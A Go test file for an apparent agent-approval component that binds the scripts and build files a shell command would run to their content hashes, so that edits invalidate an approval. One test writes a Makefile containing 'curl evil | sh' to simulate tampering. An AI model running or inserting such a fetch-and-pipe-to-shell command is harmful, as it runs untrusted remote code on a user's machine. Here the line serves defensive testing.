package approval

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"

	"agenthub/workspace"
)

// execWorkspace is a real workspace with scripts, task files, a symlink
// leading out and a FIFO, read through workspace.FS as the tools read it.
func execWorkspace(t *testing.T) (string, *workspace.FS) {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(base, "ws")
	files := map[string]string{
		"build.sh": "echo build\n", "scripts/x.sh": "echo x\n", "run.sh": "echo run\n", "bin/tool": "#!/bin/sh\n",
		"env.sh": "X=1\n", "main.py": "print(1)\n", "index.js": "1\n", "app.js": "2\n", "main.ts": "3\n",
		"Makefile": "all:\n", "other.mk": "all:\n", "sub/Makefile": "all:\n", "sub/x.sh": "echo sub\n",
		"package.json": "{}\n", "web/package.json": "{}\n", "justfile": "b:\n", "Taskfile.yml": "version: 3\n",
		"tox.ini": "[tox]\n", "noxfile.py": "import nox\n", "conftest.py": "\n", "pyproject.toml": "[project]\n",
		"Cargo.toml": "[package]\n", "build.rs": "fn main(){}\n", "cmd/x/main.go": "package main\n",
		"gen.go": "package gen\n", "requirements.txt": "requests\n", "../outside.sh": "echo out\n",
	}
	for rel, content := range files {
		p := filepath.Join(root, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("../outside.sh", filepath.Join(root, "link.sh")); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(root, "pipe.sh"), 0o644); err != nil {
		t.Fatal(err)
	}
	w, err := workspace.Open(root)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.Close() })
	return root, w
}

// TestExecFiles is the table of what each kind of command binds: "=" marks
// a file bound by its content hash, "absent" and "unreadable" the other
// states.
func TestExecFiles(t *testing.T) {
	root, w := execWorkspace(t)
	makefiles := []string{"GNUmakefile absent", "Makefile =", "makefile absent"}
	pytest := []string{"conftest.py =", "pyproject.toml =", "pytest.ini absent", "setup.cfg absent", "tox.ini ="}
	cases := []struct {
		cmd, cwd string
		want     []string
	}{
		{"bash ./build.sh", "", []string{"build.sh ="}},
		{"sh build.sh arg", "", []string{"build.sh ="}},
		{"bash -e -o pipefail scripts/x.sh", "", []string{"scripts/x.sh ="}},
		{"zsh -- build.sh", "", []string{"build.sh ="}},
		{"bash -s < build.sh", "", nil},
		{"./run.sh --flag", "", []string{"run.sh ="}},
		{"bin/tool", "", []string{"bin/tool ="}},
		{"source env.sh", "", []string{"env.sh ="}},
		{". ./env.sh && echo ok", "", []string{"env.sh ="}},
		{"python3 main.py", "", []string{"main.py ="}},
		{"python -u -W ignore main.py", "", []string{"main.py ="}},
		{"python3.12 main.py", "", []string{"main.py ="}},
		{"python -c 'print(1)'", "", nil},
		{"python -m pytest -q", "", pytest},
		{"node index.js", "", []string{"index.js ="}},
		{"node -r ./index.js app.js", "", []string{"app.js ="}},
		{"node -e 'x()'", "", nil},
		{"deno run -A main.ts", "", []string{"main.ts ="}},
		{"bun run build", "", []string{"package.json ="}},
		{"bun ./main.ts", "", []string{"main.ts =", "package.json ="}},
		{"ruby -w main.py", "", []string{"main.py ="}},
		{"perl -e 'print 1'", "", nil},
		{"make", "", makefiles},
		{"make -j4 test", "", makefiles},
		{"make -C sub test", "", []string{"sub/GNUmakefile absent", "sub/Makefile =", "sub/makefile absent"}},
		{"make -f other.mk", "", []string{"other.mk ="}},
		{"npm run build", "", []string{"package.json ="}},
		{"yarn test", "", []string{"package.json ="}},
		{"pnpm start", "", []string{"package.json ="}},
		{"npm --prefix web test", "", []string{"web/package.json ="}},
		{"just build", "", []string{".justfile absent", "Justfile absent", "justfile ="}},
		{"task build", "", []string{"Taskfile.yaml absent", "Taskfile.yml =", "taskfile.yaml absent", "taskfile.yml absent"}},
		{"tox -e py", "", []string{"pyproject.toml =", "setup.cfg absent", "tox.ini ="}},
		{"nox -s lint", "", []string{"noxfile.py ="}},
		{"pytest tests/", "", pytest},
		{"cargo test", "", []string{"Cargo.toml =", "build.rs ="}},
		{"go run ./cmd/x/main.go arg", "", []string{"cmd/x/main.go ="}},
		{"go generate gen.go", "", []string{"gen.go ="}},
		{"go test ./...", "", nil},
		{"pip install -r requirements.txt", "", []string{"requirements.txt ="}},
		{"pip install -e .", "", []string{"pyproject.toml =", "setup.py absent"}},
		{"cd sub && make", "", []string{"sub/GNUmakefile absent", "sub/Makefile =", "sub/makefile absent"}},
		{"cd sub; bash x.sh", "", []string{"sub/x.sh ="}},
		{"bash x.sh", "sub", []string{"sub/x.sh ="}},
		{"bash ../build.sh", "sub", []string{"build.sh ="}},
		{"cd $DIR && make", "", nil},
		{"cd .. && make", "", nil},
		{"timeout 60 bash build.sh", "", []string{"build.sh ="}},
		{"env FOO=1 make", "", makefiles},
		{"bash $SCRIPT", "", []string{"$SCRIPT unreadable"}},
		{"bash ../outside.sh", "", nil},
		{"bash " + filepath.Join(root, "build.sh"), "", nil},
		{"bash link.sh", "", []string{"link.sh unreadable"}},
		{"bash pipe.sh", "", []string{"pipe.sh unreadable"}},
		{"echo hi && ls -la", "", nil},
	}
	for _, tc := range cases {
		t.Run(tc.cmd, func(t *testing.T) {
			var got []string
			for _, f := range ExecFiles(w, tc.cwd, tc.cmd) {
				state := f.SHA256
				if state != Absent && state != Unreadable {
					data, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(f.Path)))
					sum := sha256.Sum256(data)
					if err != nil || state != hex.EncodeToString(sum[:]) {
						t.Errorf("%s: hash %s is not its content's", f.Path, state)
					}
					state = "="
				}
				if f.Why == "" {
					t.Errorf("%s: no reason given", f.Path)
				}
				if state == Unreadable && f.Note == "" {
					t.Errorf("%s: unreadable without a note", f.Path)
				}
				got = append(got, f.Path+" "+state)
			}
			want := append([]string(nil), tc.want...)
			sort.Strings(want)
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("ExecFiles(%q in %q) (-want +got):\n%s", tc.cmd, tc.cwd, diff)
			}
		})
	}
}

// Every tool of the table binds something for a plain invocation: an entry
// that binds nothing would be a silent gap.
func TestExecToolsTableComplete(t *testing.T) {
	_, w := execWorkspace(t)
	args := map[string]string{"sh": " build.sh", "bash": " build.sh", "zsh": " build.sh", "dash": " build.sh",
		"ksh": " build.sh", "fish": " build.sh", "source": " env.sh", ".": " env.sh", "python": " main.py",
		"python3": " main.py", "pypy3": " main.py", "node": " index.js", "ruby": " main.py", "perl": " main.py",
		"php": " main.py", "deno": " run main.ts", "go": " run gen.go", "pip": " install -r requirements.txt",
		"pip3": " install -r requirements.txt"}
	for name := range execTools {
		if files := ExecFiles(w, "", name+args[name]); len(files) == 0 {
			t.Errorf("%s%s binds nothing", name, args[name])
		}
	}
}

// A changed script changes the binding; the same content keeps it.
func TestExecFilesFollowContent(t *testing.T) {
	root, w := execWorkspace(t)
	before := ExecPreimages(ExecFiles(w, "", "make && bash build.sh"))
	if again := ExecPreimages(ExecFiles(w, "", "make && bash build.sh")); !cmp.Equal(before, again) {
		t.Fatalf("unstable binding: %v then %v", before, again)
	}
	if err := os.WriteFile(filepath.Join(root, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	after := ExecPreimages(ExecFiles(w, "", "make && bash build.sh"))
	if cmp.Equal(before, after) {
		t.Fatal("an edited Makefile kept the binding")
	}
	if err := os.WriteFile(filepath.Join(root, "GNUmakefile"), []byte("all:\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if created := ExecPreimages(ExecFiles(w, "", "make")); strings.Contains(created[0].SHA256, Absent) {
		t.Fatalf("a created GNUmakefile is still bound as absent: %v", created)
	}
}
